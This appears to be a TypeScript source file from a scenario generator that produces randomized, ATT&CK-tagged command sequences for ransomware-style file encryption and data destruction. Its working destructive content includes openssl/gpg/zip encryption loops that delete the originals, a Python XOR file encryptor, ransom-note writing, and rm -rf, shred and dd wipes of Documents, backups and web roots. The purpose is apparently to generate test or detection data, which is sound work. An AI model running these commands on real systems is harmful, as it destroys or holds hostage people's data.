import type { Draw } from '../draw.ts';
import type { Attack, Place } from '../scenario.ts';
import { fetchTo, link, look, maybe, quote, root, workFile, workFolder, write } from '../ways.ts';

function someFiles(draw: Draw, folder: string): readonly string[] {
  const count = draw.int(5, 20);
  return draw.pick([
    [
      `mkdir -p ${folder}`,
      `for i in $(seq ${count}); do head -c ${draw.int(500, 20000)} /dev/urandom | base64 > ${folder}/${draw.word()}$i.${draw.pick(['txt', 'csv', 'doc'])}; done`,
    ],
    [
      `mkdir -p ${folder}/${draw.word()}`,
      `cp /etc/*.conf ${folder}/; cp ~/Documents/* ${folder}/ 2>/dev/null`,
    ],
    [
      `mkdir -p ${folder}`,
      `for f in ${draw.some(['a', 'b', 'c', 'd', 'e', 'f'], 4).join(' ')}; do seq ${draw.int(50, 900)} > ${folder}/${draw.word()}-$f.csv; done`,
    ],
  ]);
}

function targets(draw: Draw, place: Place, folder: string): string {
  return draw.pick([
    folder,
    `${place.home}/Documents ${folder}`,
    `${place.home}/projects ${place.home}/Documents ${folder}`,
    ...(place.user === 'root' ? ['/home/*/Documents /srv', '/var/www /srv/backup'] : []),
  ]);
}

/** Files become unreadable to their owners, and a note tells so; by shell and openssl. */
const byShell: Attack = {
  name: 'files-encrypted-shell',
  family: 'files-encrypted',
  techniques: ['T1486', 'T1083', 'T1490', 'T1070.004'],
  as: 'either',
  needs: ['openssl', 'gpg', 'zip', 'sudo'],
  lines: (draw, place) => {
    const folder = `${place.home}/${draw.word()}`;
    const where = targets(draw, place, folder);
    const pass = `${draw.word()}${draw.int(100, 99999)}`;
    const extension = draw.pick([`.${draw.word()}`, '.enc', '.locked', '.crypt', `.${draw.int(1000, 9999)}`]);
    const cipher = draw.pick(['aes-256-cbc', 'aes-128-ctr', 'chacha20', 'camellia-256-cbc']);
    const once = draw.pick([
      `openssl enc -${cipher} -salt -pass pass:${pass} -in "$f" -out "$f${extension}" 2>/dev/null`,
      `openssl enc -${cipher} -pbkdf2 -iter 1000 -k ${pass} < "$f" > "$f${extension}"`,
      `gpg --batch --yes --passphrase ${pass} --s2k-count 1024 -c -o "$f${extension}" "$f" 2>/dev/null`,
      `zip -q -P ${pass} "$f${extension}" "$f"`,
    ]);
    const gone = draw.pick([
      'rm -f "$f"',
      'shred -n 1 -u "$f"',
      `mv "$f${extension}" "$f"`,
      ': > "$f"; rm "$f"',
      'unlink "$f"',
    ]);
    const limit = draw.int(12, 30);
    const loop = draw.pick([
      `find ${where} -type f ! -name "*${extension}" 2>/dev/null | head -${limit} | while read -r f; do ${once} && ${gone}; done`,
      `for f in $(find ${where} -type f -size -200k 2>/dev/null | head -${limit}); do ${once} && ${gone}; done`,
    ]);
    const script = workFile(draw, place, '.sh');
    const note = `${draw.pick(['README', 'READ_ME', 'HOW_TO_RETURN', 'NOTE', 'RESTORE'])}${draw.pick(['.txt', '', '.md'])}`;
    return [
      ...someFiles(draw, folder),
      ...maybe(draw, 0.4, `find ${where} -type f 2>/dev/null | wc -l`),
      ...maybe(draw, 0.3, root(place, `rm -rf /srv/backup/* /var/backups/*`)),
      ...(draw.chance(0.5) ? [loop] : [write(draw, script, `#!/bin/bash\n${loop}`), `bash ${script}`]),
      ...maybe(
        draw,
        0.8,
        `echo "Your files are encrypted. Write to ${draw.word()}@${draw.word()}.org, id ${draw.int(1000, 99999)}" > ${folder}/${note}`,
      ),
      ...maybe(draw, 0.4, `for d in ${where}; do cp ${folder}/${note} $d/ 2>/dev/null; done`),
      ...maybe(draw, 0.5, `ls ${folder}`),
      ...maybe(draw, 0.5, `rm -f ${script}`),
    ];
  },
};

/** The same by a program of python with a stream of its own. */
const byPython: Attack = {
  name: 'files-encrypted-python',
  family: 'files-encrypted',
  techniques: ['T1486', 'T1083', 'T1059.006'],
  as: 'either',
  needs: ['python3', 'curl', 'wget', 'perl'],
  lines: (draw, place) => {
    const folder = `${place.home}/${draw.word()}`;
    const script = workFile(draw, place, '.py');
    const extension = `.${draw.pick([draw.word(), 'enc', 'lck', 'x'])}`;
    const change = draw.pick([
      `open(path + "${extension}", "wb").write(out); os.remove(path)`,
      `open(path, "wb").write(out); os.rename(path, path + "${extension}")`,
      `f = open(path, "r+b"); f.write(out); f.close(); os.rename(path, path + "${extension}")`,
    ]);
    const roots = targets(draw, place, folder).split(' ');
    const body = `import glob, hashlib, os, sys
key = os.urandom(32)
def stream(n):
  out = b""; i = 0
  while len(out) < n: out += hashlib.sha512(key + i.to_bytes(8, "big")).digest(); i += 1
  return out[:n]
done = 0
for top in [p for t in ${JSON.stringify(roots)} for p in glob.glob(t)]:
  for base, _, names in os.walk(top):
    for name in names:
      path = os.path.join(base, name)
      if done >= ${draw.int(15, 40)} or path.endswith("${extension}") or os.path.getsize(path) > 200000: continue
      try:
        data = open(path, "rb").read()
        out = bytes(a ^ b for a, b in zip(data, stream(len(data))))
        ${change}
        done += 1
      except OSError: pass
  open(os.path.join(top, "${draw.pick(['README.txt', 'HOW_TO.txt', 'info.txt'])}"), "w").write("All files are locked. Ask ${draw.word()}@${draw.word()}.net\\n")
print(done)`;
    return [
      ...look(draw, draw.int(0, 2)),
      ...someFiles(draw, folder),
      ...maybe(draw, 0.3, fetchTo(draw, link(draw, place, '.py'), `/tmp/${draw.word()}.py`)),
      ...(draw.chance(0.7)
        ? [write(draw, script, body), `python3 ${script}`]
        : [`python3 - << 'EOF'\n${body}\nEOF`]),
      ...maybe(draw, 0.5, `ls ${folder} | head`),
      ...maybe(draw, 0.5, `rm -f ${script}`),
    ];
  },
};

/** Data are destroyed. */
const destroyed: Attack = {
  name: 'data-destroyed',
  family: 'data-destroyed',
  techniques: ['T1485', 'T1561.001', 'T1490', 'T1565.001'],
  as: 'either',
  needs: ['sudo', 'python3', 'crontab'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const image = `${folder}/${draw.word()}.img`;
    const mine = [
      'rm -rf ~/Documents/*',
      'rm -rf ~/projects',
      `find ~ -maxdepth 3 -type f \\( -name "*.txt" -o -name "*.csv" -o -name "*.md" \\) 2>/dev/null | head -30 | xargs -r shred -n 1 -u`,
      `for f in ~/Documents/*; do dd if=/dev/urandom of="$f" bs=1k count=${draw.int(1, 16)} conv=notrunc status=none; done`,
      `for f in ~/Documents/* ~/notes*; do [ -f "$f" ] && : > "$f"; done`,
      `python3 -c ${quote(`import os,glob\nfor p in glob.glob(os.path.expanduser("~/Documents/*"))[:30]:\n  if os.path.isfile(p): n=os.path.getsize(p); open(p,"wb").write(b"\\0"*n)`)}`,
      'rm -rf ~/src/*/.git',
      'find ~ -maxdepth 4 -type f -name "*.py" -delete 2>/dev/null',
    ];
    const all = [
      root(place, 'rm -rf /srv/backup'),
      root(place, 'bash -c "rm -rf /var/backups/* /srv/*"'),
      root(place, 'bash -c "rm -rf /var/www/html/*; echo gone > /var/www/html/index.html"'),
      root(place, 'find /srv /var/backups -type f -exec shred -n 1 -u {} +'),
      root(place, 'bash -c "for h in /home/*; do rm -rf \\$h/Documents; done"'),
      root(place, 'bash -c "truncate -s 0 /var/www/html/*.html"'),
    ];
    return [
      ...look(draw, draw.int(1, 2)),
      ...maybe(
        draw,
        0.6,
        draw.pick(['ls ~ ~/Documents', 'df -h', 'du -sh ~/* 2>/dev/null', 'ls -la /srv /var/backups']),
      ),
      ...draw.some([...mine, ...all], draw.int(1, 4)),
      ...maybe(
        draw,
        0.4,
        `mkdir -p ${folder}; truncate -s 8M ${image}`,
        `dd if=/dev/zero of=${image} bs=512 count=${draw.int(1, 64)} conv=notrunc status=none`,
      ),
      ...maybe(draw, 0.4, root(place, `crontab -r`)),
      ...maybe(draw, 0.4, 'ls ~ | wc -l'),
    ];
  },
};

export const IMPACT: readonly Attack[] = [byShell, byPython, destroyed];
